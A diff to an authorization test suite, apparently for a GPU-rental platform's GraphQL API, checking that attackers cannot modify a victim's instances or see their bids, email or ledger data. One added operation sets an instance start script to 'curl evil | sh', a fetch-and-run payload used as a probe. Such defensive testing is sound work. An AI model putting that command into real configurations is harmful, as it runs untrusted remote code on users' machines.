@@ -26,12 +26,18 @@ interface Ids {
   machine: string;
   instance: string;
   template: string;
+  /** The victim's bid on the attacker's machine, and its instance. */
+  bid: string;
+  bidInstance: string;
 }
 
 let victim: { userId: number; key: string; email: string };
 /** A ledger description only the victim's statements may show. */
 const VICTIM_CREDIT = "credit for the victim 7f3a";
+/** The label of the victim's bid: order books show its price level, never this. */
+const VICTIM_BID_LABEL = "victim's bid 51c2";
 let ids: Ids;
+let attackerMachineId: number;
 const machineSpecs = {
   gpuName: "RTX 4090", numGpus: 2, gpuRamMb: 24564, computeCap: 890, tflopsPerGpu: 82.6, gpuMemBw: 1008, pcieGen: 4, pcieBw: 24.5,
   cpuName: "EPYC", cpuCores: 32, cpuRamMb: 128000, diskSpaceGb: 1000, diskBw: 3000, inetUpMbps: 500, inetDownMbps: 500,
@@ -80,6 +86,11 @@ beforeAll(async () => {
   );
   const victimRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 1) }, victim.key)).data.createInstance);
   const attackerRental = unwrap((await app.gql(CREATE_INSTANCE, { input: instanceInput(victimMachine, 1) }, attacker.key)).data.createInstance);
+  const victimBid = unwrap(
+    (await app.gql(CREATE_INSTANCE, { input: instanceInput(attackerMachine, 2, { bidPricePerGpuHour: "0.50", label: VICTIM_BID_LABEL }) }, victim.key)).data
+      .createInstance,
+  );
+  attackerMachineId = attackerMachine;
 
   ids = {
     apiKey: extraKey.data.createApiKey.data.apiKey.id,
@@ -87,6 +98,8 @@ beforeAll(async () => {
     machine: `Machine:${victimMachine}`,
     instance: victimRental.instance.id,
     template: template.data.createTemplate.data.id,
+    bid: victimBid.instance.id.replace("Instance:", "Bid:"),
+    bidInstance: victimBid.instance.id,
   };
   callers.anonymous = undefined;
   callers["attacker account key"] = attacker.key;
@@ -139,6 +152,15 @@ const operations: {
   { name: "stopInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("stopInstance(id: $id)", "MutationStopInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
   { name: "startInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("startInstance(id: $id)", "MutationStartInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
   { name: "destroyInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("destroyInstance(id: $id)", "MutationDestroyInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "rebootInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("rebootInstance(id: $id)", "MutationRebootInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "recycleInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("recycleInstance(id: $id)", "MutationRecycleInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  {
+    name: "updateInstance",
+    needs: "INSTANCES",
+    document: `mutation ($id: ID!) { ${result('updateInstance(id: $id, input: { onstart: "curl evil | sh" })', "MutationUpdateInstanceSuccess")} }`,
+    variables: () => ({ id: ids.instance }),
+    allowedFor: ["victim instance key"],
+  },
   { name: "labelInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('labelInstance(id: $id, label: "pwned")', "MutationLabelInstanceSuccess")} }`, variables: () => ({ id: ids.instance }) },
   { name: "changeBid", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('changeBid(instanceId: $id, pricePerGpuHour: "5.00")', "MutationChangeBidSuccess")} }`, variables: () => ({ id: ids.instance }) },
   { name: "deleteTemplate", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("deleteTemplate(id: $id)", "MutationDeleteTemplateSuccess")} }`, variables: () => ({ id: ids.template }) },
@@ -159,6 +181,15 @@ const operations: {
     document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { earnings(machineId: $id, from: $from, to: $to) { machineId } }`,
     variables: () => ({ id: ids.machine, ...lastWeek() }),
   },
+  { name: "requestEmailVerification", document: `mutation { ${result("requestEmailVerification", "MutationRequestEmailVerificationSuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
+  {
+    name: "changePassword",
+    document: `mutation { ${result('changePassword(currentPassword: "x", newPassword: "a new password")', "MutationChangePasswordSuccess")} }`,
+    variables: () => ({}),
+    needs: "KEYS",
+    forCaller: true,
+  },
+  { name: "addCard", document: `mutation { ${result("addCard", "MutationAddCardSuccess")} }`, variables: () => ({}), needs: "BILLING", forCaller: true },
   { name: "createApiKey", document: `mutation { ${result('createApiKey(name: "x")', "MutationCreateApiKeySuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
   {
     name: "addSshKey",
@@ -199,6 +230,8 @@ const RECENT = `from: "${lastWeek().from}", to: "${lastWeek().to}"`;
 /** Queries that list "my" things: for any other caller they must fail or show none of the victim's. */
 const listings = [
   "{ me { id email } }",
+  "{ spendLimit { tier currentPerHour } }",
+  "{ sessions { id name } }",
   "{ apiKeys { id name } }",
   "{ sshKeys { id fingerprint } }",
   "{ myMachines { id } }",
@@ -209,6 +242,7 @@ const listings = [
   `{ invoices(${RECENT}) { description amount } }`,
   `{ charges(${RECENT}) { instanceId } }`,
   `{ earnings(${RECENT}) { machineId } }`,
+  "{ bids(first: 50) { totalCount edges { node { id machineId standing priceToWin instance { id label } } } } }",
 ];
 
 /** The victim's account keys holding one permission each (and READ): they may do what it allows. */
@@ -261,16 +295,35 @@ describe("authorization matrix", () => {
         const response = JSON.stringify(await app.gql(query, {}, callers[caller]));
         expect(response).not.toContain(victim.email);
         expect(response).not.toContain(VICTIM_CREDIT);
+        expect(response).not.toContain(VICTIM_BID_LABEL);
         for (const id of Object.values(ids)) expect(response).not.toContain(`"${id}"`);
       });
     }
+  }
+
+  for (const caller of callerNames) {
+    it(`the order book of a machine the victim bids on, by ${caller}, shows the bid's level and nothing of the victim`, async () => {
+      const book = `orderBook { minBid clearingPrice levels { price gpus bids winningGpus } }`;
+      const response = await app.gql(
+        `query ($m: ID!) { orderBook(machineId: $m) { machineId levels { price gpus bids } } offers(query: "machine_id=${attackerMachineId} rentable=any") { edges { node { ${book} } } } }`,
+        { m: `Machine:${attackerMachineId}` },
+        callers[caller],
+      );
+      // Expired credentials are refused outright; every other caller sees the book.
+      if (!caller.includes("expired")) expect(response.data.orderBook.levels).toContainEqual({ price: "0.50", gpus: 2, bids: 1 });
+      const text = JSON.stringify(response);
+      expect(text).not.toContain(victim.email);
+      expect(text).not.toContain(VICTIM_BID_LABEL);
+      expect(text).not.toContain(`"${victim.userId}"`);
+      for (const id of Object.values(ids)) expect(text).not.toContain(`"${id}"`);
+    });
   }
 
   it("a read-only key lists the victim's things and cannot rent", async () => {
     const readOnly = callers["victim READ key"];
     const listed = JSON.stringify(await app.gql("{ instances(first: 50) { edges { node { id } } } }", {}, readOnly));
     expect(listed).toContain(ids.instance);
-    expect(JSON.stringify(await app.gql(listings[3], {}, readOnly))).toContain(ids.machine);
+    expect(JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, readOnly))).toContain(ids.machine);
     const rent = operations.find((o) => o.name === "createInstance")!;
     const before = await databaseSnapshot();
     const refused = await app.gql(rent.document, rent.variables(), readOnly);
@@ -281,9 +334,12 @@ describe("authorization matrix", () => {
   it("the victim's own account key does succeed (the matrix is not vacuous)", async () => {
     const response = await app.gql(operations.find((o) => o.name === "labelInstance")!.document, { id: ids.instance }, victim.key);
     expect(response.data.labelInstance.__typename).toBe("MutationLabelInstanceSuccess");
-    const listed = JSON.stringify(await app.gql(listings[3], {}, victim.key));
+    const listed = JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, victim.key));
     expect(listed).toContain(ids.machine);
     const invoices = JSON.stringify(await app.gql(listings.find((q) => q.includes("invoices"))!, {}, victim.key));
     expect(invoices).toContain(VICTIM_CREDIT);
+    const bids = JSON.stringify(await app.gql(listings.find((q) => q.includes("bids"))!, {}, victim.key));
+    expect(bids).toContain(ids.bid);
+    expect(bids).toContain(VICTIM_BID_LABEL);
   });
 });
